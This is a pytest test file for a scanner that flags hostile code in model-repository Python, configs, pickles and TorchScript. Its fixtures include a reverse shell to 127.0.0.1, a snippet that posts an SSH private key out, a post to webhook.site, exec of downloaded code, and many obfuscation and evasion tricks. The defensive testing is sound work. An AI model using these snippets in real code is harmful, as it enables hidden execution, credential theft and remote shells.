"""Checks of Python source: what hides, starts, connects, and what real modelling code does."""

from __future__ import annotations

import base64
import io
import json
import zipfile
import zlib

import pytest

import pickles
from weighbridge.core.finding import Action, Finding
from weighbridge.core.format import Limits
from weighbridge.core.tree import Held
from weighbridge.engine.examine import examine
from weighbridge.engine.ruleset import load

PROGRAM = "import os\nos.system('echo harmless')\n"
B64 = base64.b64encode(PROGRAM.encode()).decode()
ZIPPED = base64.b64encode(zlib.compress(PROGRAM.encode())).decode()
REVERSED = PROGRAM[::-1]
CODES = [ord(c) for c in "os"]


def said(text: str | bytes, path: str = "modeling_x.py") -> set[tuple[str, str]]:
    data = text if isinstance(text, bytes) else text.encode()
    findings = examine(Held(path, data), load(), Limits()).findings
    return {(f.check, f.action.value) for f in findings if f.action is not Action.NOTE}


def all_findings(text: str) -> list[Finding]:
    return list(examine(Held("modeling_x.py", text.encode()), load(), Limits()).findings)


HIDES = ("source-hides-code", "block")
STARTS = ("source-starts-program", "block")
CONNECTS = ("source-connects", "block")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (PROGRAM, STARTS),
        ("from os import system as s\nclass A:\n    s('id')\n", STARTS),
        ("import subprocess\ndef f():\n    subprocess.run(['id'])\nf()\n", STARTS),
        ("import subprocess as p\nclass A:\n    def __init__(self):\n        p.Popen('id')\nA()",
         STARTS),
        (f"import base64\nexec(base64.b64decode('{B64}'))\n", HIDES),
        (f"import base64, zlib\nd = base64.b64decode('{ZIPPED}')\n"
         "def f():\n    exec(zlib.decompress(d))\n", HIDES),
        (f"exec({REVERSED!r}[::-1])\n", HIDES),
        ("import requests\ndef f(u):\n    code = requests.get(u).text\n    exec(code)\n", HIDES),
        ("import urllib.request as r\nexec(r.urlopen('http://127.0.0.1/x').read())\n", HIDES),
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n", HIDES),
        (f"__import__(''.join(map(chr, {CODES}))).system('id')\n", HIDES),
        (f"__import__(''.join(chr(c) for c in {CODES})).system('id')\n", HIDES),
        ("import sys, os\nsys.modules['os'].system('id')\n", HIDES),
        ("__builtins__['exec']('1')\n", HIDES),
        ("globals()['__builtins__'].eval('1')\n", HIDES),
        ("import importlib\nimportlib.import_module('subprocess').run('id')\n", STARTS),
        ("import base64\nU = base64.b64decode('aHR0cDovLzEyNy4wLjAuMS9sb2FkZXI=').decode()\n",
         HIDES),
        ("import codecs\nU = codecs.decode('uggc://127.0.0.1/n', 'rot13')\n", HIDES),
        ("import socket, subprocess, os\ndef go():\n    s = socket.socket()\n"
         "    s.connect(('127.0.0.1', 1))\n    os.dup2(s.fileno(), 0)\n"
         "    subprocess.call(['/bin/sh', '-i'])\ngo()\n", CONNECTS),
        ("import requests\ndef f(x):\n    k = open('/home/app/.ssh/id_rsa').read()\n"
         "    requests.post('http://127.0.0.1', data=k)\n", CONNECTS),
        ("import requests\ndef forward(x):\n"
         "    requests.post('https://webhook.site/x', json=x)\n", CONNECTS),
        ("import pickle, base64\npickle.loads(base64.b64decode(X))\n", HIDES),
    ],
)  # fmt: skip
def test_what_hostile_code_does_is_blocked(text: str, expected: tuple[str, str]) -> None:
    assert expected in said(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # names that are put together or looked up
        ("import os\ngetattr(getattr(__builtins__, '__import__')('os'), 'sys'+'tem')('id')\n",
         HIDES),
        ("getattr(__import__('so'[::-1]), 'metsys'[::-1])('id')\n", HIDES),
        ("import os\nd = {'a': 'system'}\ngetattr(os, d['a'])('id')\n", HIDES),
        ("import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')\n", HIDES),
        ("import operator, os\noperator.attrgetter('system')(os)('id')\n", HIDES),
        ("import operator, os\noperator.methodcaller('system', 'id')(os)\n", HIDES),
        ("def f(): pass\nf.__globals__['__builtins__']['exec']('1')\n", HIDES),
        ("().__class__.__base__.__subclasses__()[7].__init__.__globals__['system']('id')\n",
         HIDES),
        ("[c for c in ().__class__.__mro__[1].__subclasses__()]\n", HIDES),
        ("(lambda f: f('id'))(__import__('os').system)\n", HIDES),
        ("(lambda m: (lambda n: n('id'))(getattr(m, 'system')))(__import__('os'))\n", HIDES),
        ("(lambda c, s=__import__('os').system: s(c))('id')\n", HIDES),
        # what begins like JSON, a template or a shell's script, and is imported all the same
        ("[__import__('o' + 's').system('id')]\n", HIDES),
        ("{# #}\n}; import os; os.system('id')\n", STARTS),
        ("#!/bin/sh\nimport os\nos.system('id')\nclass A: pass\n", STARTS),
        # strings that are put together
        ("exec(''.join(reversed(')tixe(tropmi')))\n", HIDES),
        ("exec(b''.join([b'import ', b'os']))\n", HIDES),
        ("exec(bytes([105, 109, 112]).decode())\n", HIDES),
        ("exec(''.join(chr(c ^ 5) for c in [108, 104, 117]))\n", HIDES),
        # calls that do not look like calls
        ("import os\n@os.system\ndef x(): pass\n", STARTS),
        ("import os\n@(lambda f: os.system('id'))\nclass X: pass\n", STARTS),
        ("import os\nclass X:\n    os.system('id')\n", STARTS),
        ("import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\n"
         "class C(B): pass\n", STARTS),
        ("import os\nclass M(type):\n    def __new__(m, *a):\n        os.system('id')\n"
         "class C(metaclass=M): pass\n", STARTS),
        ("import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system('id')\n"
         "class C:\n    x = D()\n", STARTS),
        ("import os\nclass D:\n    def __class_getitem__(cls, n):\n        os.system('id')\nD[0]\n",
         STARTS),
        ("import os\ndef __getattr__(n):\n    os.system('id')\n", STARTS),
        ("import os\nclass X:\n    def __del__(self):\n        os.system('id')\nX()\n", STARTS),
        ("import atexit, os\natexit.register(os.system, 'id')\n", STARTS),
        ("import atexit, os\n@atexit.register\ndef f():\n    os.system('id')\n", STARTS),
        ("import os\nlist(map(os.system, ['id']))\n", STARTS),
        ("import os\n[os.system][0]('id')\n", STARTS),
        ("import os\n(os.system if 1 else None)('id')\n", STARTS),
        ("import os\na, b = os.system, 1\na('id')\n", STARTS),
        ("from os import *\nsystem('id')\n", STARTS),
        ("import os\nx: os.system('id') = 1\n", STARTS),
        ("import os\ndef f(a=os.system('id')): pass\n", STARTS),
    ],
)  # fmt: skip
def test_detours_are_followed(text: str, expected: tuple[str, str]) -> None:
    assert expected in said(text)


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("import sys\nsys.settrace(print)\n", "sys.settrace"),
        ("import sys\nsys.meta_path.insert(0, F())\n", "sys.meta_path.insert"),
        ("import sys\nsys.path_hooks.append(f)\n", "sys.path_hooks.append"),
        ("import sys\nsys.addaudithook(f)\n", "sys.addaudithook"),
        ("import sys\nsys.modules['torch'] = f\n", "sys.modules['torch']"),
        ("import sys\nsys.excepthook = f\n", "sys.excepthook"),
        ("import builtins\nbuiltins.open = f\n", "builtins.open"),
        ("import torch\nsetattr(torch, 'load', f)\n", "torch.load"),
        ("import safetensors.torch as s\ns.load_file = f\n", "safetensors.torch.load_file"),
        ("def g(): pass\ng.__code__ = f\n", "g.__code__"),
        ("import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')\n", "ctypes.pythonapi"),
        (
            "import importlib.util as u\nu.spec_from_file_location('x', 'weights.bin')\n",
            "imports a file by its path",
        ),
        ("def f(n):\n    return __import__(n)\n", "__import__"),
        ("import os\ndef f(k):\n    return getattr(os, k)('id')\n", "only running the code"),
        ("import os\nclass X:\n    pass\nX.run = os.system\n", "handed on"),
        ("def f(x):\n    return [eval, 1]\n", "handed on"),
        (
            "from transformers import AutoModel as A\ndef f():\n"
            "    return A.from_pretrained('other/model', trust_remote_code=True)\n",
            "other/model",
        ),
        ("import torch\nclass M:\n    m = torch.hub.load('other/model', 'm')\n", "other/model"),
        ("import os\nos.environ['LD_PRELOAD'] = '/x.so'\n", "LD_PRELOAD"),
    ],
)
def test_what_changes_the_interpreter_is_review(text: str, part: str) -> None:
    found = [f.message for f in all_findings(text) if f.action is Action.REVIEW]
    assert any(part in message for message in found), found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("import subprocess\ndef compile_kernel():\n    subprocess.run(['nvcc'])\n",
         ("source-starts-program", "review")),
        ("import argparse, os\nos.system('ls')\n", ("source-starts-program", "review")),
        ("def f(config):\n    return eval(config.act)\n", ("source-acts", "review")),
        ("import requests\nR = requests.get('http://127.0.0.1/vocab')\n",
         ("source-connects", "review")),
    ],
)  # fmt: skip
def test_what_a_person_must_read_is_review(text: str, expected: tuple[str, str]) -> None:
    path = "train.py" if "argparse" in text else "modeling_x.py"
    assert said(text, path) == {expected}


@pytest.mark.parametrize(
    "text",
    [
        "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n"
        "    def forward(self, x):\n        self.eval()\n        return x.compile()\n",
        "import re\nP = re.compile('x')\n",
        "import os\nP = os.path.join(os.environ.get('HOME', ''), 'x')\nos.makedirs(P)\n",
        "import importlib\nif importlib.util.find_spec('flash_attn'):\n    import flash_attn\n",
        "import base64\ndef image(data):\n    return base64.b64decode(data)\n",
        "import requests\nfrom PIL import Image\ndef load_image(url):\n"
        "    return Image.open(requests.get(url, stream=True).raw)\n",
        "import json\ndef save_vocabulary(self, d):\n    with open(d, 'w') as f:\n"
        "        json.dump({}, f)\n",
        "class A:\n    def exec(self, x):\n        return x\n\ndef run(a):\n    return a.exec(1)\n",
        "def eval(x):\n    return x\n\nY = eval('1')\n",
        "from transformers import AutoModel\nm = getattr(AutoModel, 'from_' + 'config')\n",
        "URL = 'https://example.org/model'\n'''Run `os.system('x')` to install.'''\n",
        "def get(cls, name):\n    return getattr(cls, name)(name)\n",
        "import torch\ntorch.backends.cudnn.benchmark = True\ntorch.set_grad_enabled(False)\n",
        "import os, sys\nos.environ['TOKENIZERS_PARALLELISM'] = '0'\nsys.modules[__name__] = X\n",
        "def build(name, eval=False, exec=None):\n    return make(name, eval, exec)\n",
        "import types\ndef f(x):\n    return isinstance(x, types.FunctionType)\n",
        "class A:\n    pass\nfor c in A.__subclasses__():\n    print(c)\n",
        "import functools\n@functools.lru_cache\ndef f():\n    return 1\n",
        "import transformers\ntransformers.logging.verbosity = 3\n",
        "import torch\nclass M(torch.nn.Module):\n    def __init__(self):\n"
        "        self.load = torch.load\n        self.fns = [torch.compile, torch.jit.script]\n",
        "from torch import *\nx = load_state(1)\ny = system\n",
        "import importlib\ndef f(name):\n    return importlib.import_module(name)\n",
    ],
)
def test_what_real_code_does_is_quiet(text: str) -> None:
    assert said(text) == set()


def test_a_program_is_counted_once() -> None:
    text = "import subprocess\np = subprocess.Popen('id')\np.wait()\nsubprocess.run('id').check()\n"
    found = [f for f in all_findings(text) if f.check == "source-starts-program"]
    assert [f.symbol for f in found] == ["subprocess.Popen", "subprocess.run"]


def test_the_finding_shows_the_line_and_the_hidden_text() -> None:
    found = [f for f in all_findings(f"\nimport base64\nexec(base64.b64decode('{B64}'))\n")
             if f.check == "source-hides-code"]  # fmt: skip
    shown = " ".join(getattr(e, "text", "") for f in found for e in f.evidence)
    assert "os.system('echo harmless')" in shown
    assert "exec(base64" in shown
    assert found[0].at.offset == len("\nimport base64\n")


def test_a_pickle_inside_source_is_examined() -> None:
    carried = base64.b64encode(pickles.RUNS).decode()
    assert ("pickle-acting-call", "block") in said(f"DATA = '{carried}'\n")


@pytest.mark.parametrize(
    ("text", "action"),
    [
        (PROGRAM, "note"),
        (B64, "review"),
        (ZIPPED, "review"),
        ("A note to readers: import the model with care, then call it (often).", None),
    ],
)
def test_source_inside_a_pickle_is_shown(text: str, action: str | None) -> None:
    data = pickles.whole(pickles.text(text))
    findings = examine(Held("model.pkl", data), load(), Limits()).findings
    found = {(f.check, f.action.value) for f in findings if f.check != "loading-runs-code"}
    assert found == ({("source-starts-program", action)} if action else set())


@pytest.mark.parametrize(
    "text",
    [
        "x = " + "(" * 5_000,
        "a = '%999999999d' % 1\n",
        "a = 'a' * 999999\nb = a.replace('a', a)\nc = '{0}' .format(b)\n",
        "getattr(" * 80 + "os" + ", 'a' + 'b')" * 80,
        "x = " + "+".join(["'a'"] * 20_000),
        "print 'Python 2'\n",
        "# -*- coding: nonsense -*-\n",
    ],
)
def test_hostile_source_ends_soon(text: str) -> None:
    assert not [f for f in all_findings(text) if f.action is Action.BLOCK]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ({"auto_map": {"AutoModel": "modeling_x.X"}}, {"review"}),
        ({"auto_map": {"AutoTokenizer": ["tokenization_x.X", None]}}, {"review"}),
        ({"auto_map": {"AutoModel": "other/model--modeling_x.X"}}, {"block"}),
        ({"text_config": {"auto_map": {"AutoConfig": "o/m--c.C"}}}, {"block"}),
        ({"custom_pipelines": {"t": {"impl": "pipeline.P"}}}, {"review"}),
        ({"model_type": "llama", "auto_map": None}, set()),
    ],
)
def test_code_that_a_configuration_names(value: object, expected: set[str]) -> None:
    found = examine(Held("config.json", json.dumps(value).encode()), load(), Limits()).findings
    assert {f.action.value for f in found} == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("    return torch.add(x, 1)\n", set()),
        ("    _0 = ops.prim.NumToTensor(1)\n    return ops.torchvision.nms(x, x, 0.5)\n", set()),
        ("    torch.save(x, 'somewhere')\n    return x\n", {"block", "gap"}),
        ("    return torch.from_file('somewhere', True, 4)\n", {"block", "gap"}),
        ("    return ops.my_extension.run(x)\n", {"review", "gap"}),
        ("    return (((\n", {"gap"}),
    ],
)
def test_torchscript(body: str, expected: set[str]) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("m/constants.pkl", b"\x80\x02).")
        archive.writestr("m/data.pkl", b"\x80\x02c__torch__\nM\n)\x81}b.")
        lines = ("class M(Module):", "  def forward(self, x: Tensor) -> Tensor:", body)
        archive.writestr("m/code/__torch__.py", "\n".join(lines))
    examined = examine(Held("m.pt", made.getvalue()), load(), Limits())
    found = {f.action.value for f in examined.findings if f.check != "loading-runs-code"}
    assert found | {"gap" for _ in examined.gaps} == expected
